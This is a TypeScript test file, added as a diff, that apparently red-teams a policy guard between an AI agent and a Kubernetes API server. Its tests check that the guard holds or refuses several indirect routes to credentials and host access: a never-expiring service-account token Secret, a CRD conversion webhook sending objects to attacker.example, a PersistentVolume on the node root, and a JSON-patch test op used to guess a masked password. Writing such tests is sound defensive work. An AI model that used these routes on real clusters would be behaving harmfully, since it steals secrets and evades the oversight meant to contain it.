@@ -1,0 +1,114 @@
+// Sixth attack round on the Kubernetes path, against the real kube-apiserver, by an agent holding a valid token
+// under the default policy (`staging` is not a production namespace: plain writes there pass): credentials and
+// node access reached by kinds that do not look like them, and an oracle on the values masks hide.
+import { test } from 'uvu'
+import * as assert from 'uvu/assert'
+import { type KubeAttack, startKubeAttack } from './testing/kube-attack.ts'
+
+let k: KubeAttack
+const admin = (args: string[], stdin?: string) => k.admin(args, stdin)
+
+// A credential pasted as a literal env value (masked in every answer), short enough to guess from a list.
+const VALUE = 'hunter2'
+
+const agent = (path: string, opts: { method?: string; body?: string; type?: string } = {}) =>
+  k.agent(path, { method: opts.method, body: opts.body, headers: opts.type ? { 'content-type': opts.type } : {} })
+
+const crd = {
+  apiVersion: 'apiextensions.k8s.io/v1', kind: 'CustomResourceDefinition', metadata: { name: 'databases.example.com' },
+  spec: {
+    group: 'example.com', scope: 'Namespaced', names: { plural: 'databases', singular: 'database', kind: 'Database' },
+    versions: [{ name: 'v1', served: true, storage: true, schema: { openAPIV3Schema: { type: 'object', 'x-kubernetes-preserve-unknown-fields': true } } }],
+  },
+}
+
+test.before(async () => {
+  k = await startKubeAttack('attack-kube6', { holdSeconds: 0.2 })
+  for (const ns of ['staging', 'prod']) {
+    await admin(['create', 'namespace', ns])
+    await admin(['create', 'serviceaccount', 'default', '-n', ns])
+  }
+  await admin(['create', 'serviceaccount', 'deployer', '-n', 'staging'])
+  await admin(['run', 'web', '-n', 'staging', '--image=busybox', `--env=PASSWORD=${VALUE}`])
+  await admin(['apply', '-f', '-'], JSON.stringify(crd))
+})
+
+test.after(async () => {
+  await k?.close()
+})
+
+const held = (a: { status: number; body: string }, rule: string) => {
+  assert.is(a.status, 403, a.body.slice(0, 300))
+  assert.match(a.body, 'held for approval', a.body.slice(0, 300))
+  assert.match(a.body, rule, a.body.slice(0, 600))
+}
+
+test('a Secret of type service-account-token (the token controller fills it with a token that never expires) is held like a token request', async () => {
+  const body = JSON.stringify({
+    apiVersion: 'v1', kind: 'Secret', type: 'kubernetes.io/service-account-token',
+    metadata: { name: 'deployer-token', namespace: 'staging', annotations: { 'kubernetes.io/service-account.name': 'deployer' } },
+  })
+  held(await agent('/api/v1/namespaces/staging/secrets', { method: 'POST', type: 'application/json', body }), 'warden.rules.kubernetes.token')
+  const apply = `apiVersion: v1\nkind: Secret\nmetadata:\n  name: deployer-token\n  annotations:\n    kubernetes.io/service-account.name: deployer\ntype: kubernetes.io/service-account-token\n`
+  held(await agent('/api/v1/namespaces/staging/secrets/deployer-token?fieldManager=agent', { method: 'PATCH', type: 'application/apply-patch+yaml', body: apply }), 'warden.rules.kubernetes.token')
+  assert.not.match(await admin(['get', 'secrets', '-n', 'staging', '-o', 'name']), 'deployer-token')
+  // An ordinary Secret still writes.
+  const plain = JSON.stringify({ apiVersion: 'v1', kind: 'Secret', type: 'Opaque', metadata: { name: 'plain', namespace: 'staging' }, stringData: { a: 'b' } })
+  assert.is((await agent('/api/v1/namespaces/staging/secrets', { method: 'POST', type: 'application/json', body: plain })).status, 201)
+})
+
+test('a conversion webhook on a CustomResourceDefinition (its objects sent in clear to a URL) is refused for an agent', async () => {
+  const path = '/apis/apiextensions.k8s.io/v1/customresourcedefinitions/databases.example.com'
+  const webhook = { conversionReviewVersions: ['v1'], clientConfig: { url: 'https://attacker.example/convert' } }
+  for (const [type, body] of [
+    ['application/merge-patch+json', JSON.stringify({ spec: { conversion: { strategy: 'Webhook', webhook } } })],
+    ['application/json-patch+json', JSON.stringify([{ op: 'add', path: '/spec/conversion', value: { strategy: 'Webhook', webhook } }])],
+  ] as const) {
+    const a = await agent(path, { method: 'PATCH', type, body })
+    assert.is(a.status, 403, a.body.slice(0, 300))
+    assert.match(a.body, 'warden.rules.kubernetes.interception', a.body.slice(0, 600))
+    assert.not.match(a.body, 'held for approval')
+  }
+  assert.is(JSON.parse(await admin(['get', 'crd', 'databases.example.com', '-o', 'json'])).spec.conversion.strategy, 'None')
+})
+
+test('a local persistent volume (a node directory, as hostPath) is refused as host access', async () => {
+  const pv = {
+    apiVersion: 'v1', kind: 'PersistentVolume', metadata: { name: 'node-root' },
+    spec: {
+      capacity: { storage: '1Gi' }, accessModes: ['ReadWriteOnce'], storageClassName: 'manual', local: { path: '/' },
+      nodeAffinity: { required: { nodeSelectorTerms: [{ matchExpressions: [{ key: 'kubernetes.io/hostname', operator: 'Exists' }] }] } },
+    },
+  }
+  const a = await agent('/api/v1/persistentvolumes', { method: 'POST', type: 'application/json', body: JSON.stringify(pv) })
+  assert.is(a.status, 403, a.body.slice(0, 300))
+  assert.match(a.body, 'warden.rules.kubernetes.host_access', a.body.slice(0, 600))
+  assert.not.match(a.body, 'held for approval')
+  assert.not.match(await admin(['get', 'pv', '-o', 'name']), 'node-root')
+})
+
+const guess = (value: string) => JSON.stringify([
+  { op: 'test', path: '/spec/containers/0/env/0/value', value },
+  { op: 'add', path: '/metadata/labels/guessed', value: 'yes' },
+])
+
+test('control: a JSON patch test op answers whether a guess is the masked env value', async () => {
+  const wrong = await admin(['patch', 'pod', 'web', '-n', 'staging', '--type', 'json', '-p', guess('letmein')]).catch((err: Error) => err.message)
+  assert.match(wrong, 'request is invalid', wrong)
+  const right = await admin(['patch', 'pod', 'web', '-n', 'staging', '--type', 'json', '-p', guess(VALUE)])
+  assert.match(right, 'patched')
+  await admin(['label', 'pod', 'web', '-n', 'staging', 'guessed-'])
+})
+
+test('a JSON patch test op on a workload (its env values are masked) is held: no oracle on them', async () => {
+  for (const value of ['letmein', VALUE]) {
+    const a = await agent('/api/v1/namespaces/staging/pods/web', { method: 'PATCH', type: 'application/json-patch+json', body: guess(value) })
+    held(a, 'warden.rules.kubernetes.secret_oracle')
+  }
+  assert.not.match(await admin(['get', 'pod', 'web', '-n', 'staging', '--show-labels']), 'guessed')
+  // A patch without a test op still applies.
+  const label = JSON.stringify([{ op: 'add', path: '/metadata/labels/tier', value: 'web' }])
+  assert.is((await agent('/api/v1/namespaces/staging/pods/web', { method: 'PATCH', type: 'application/json-patch+json', body: label })).status, 200)
+})
+
+test.run()
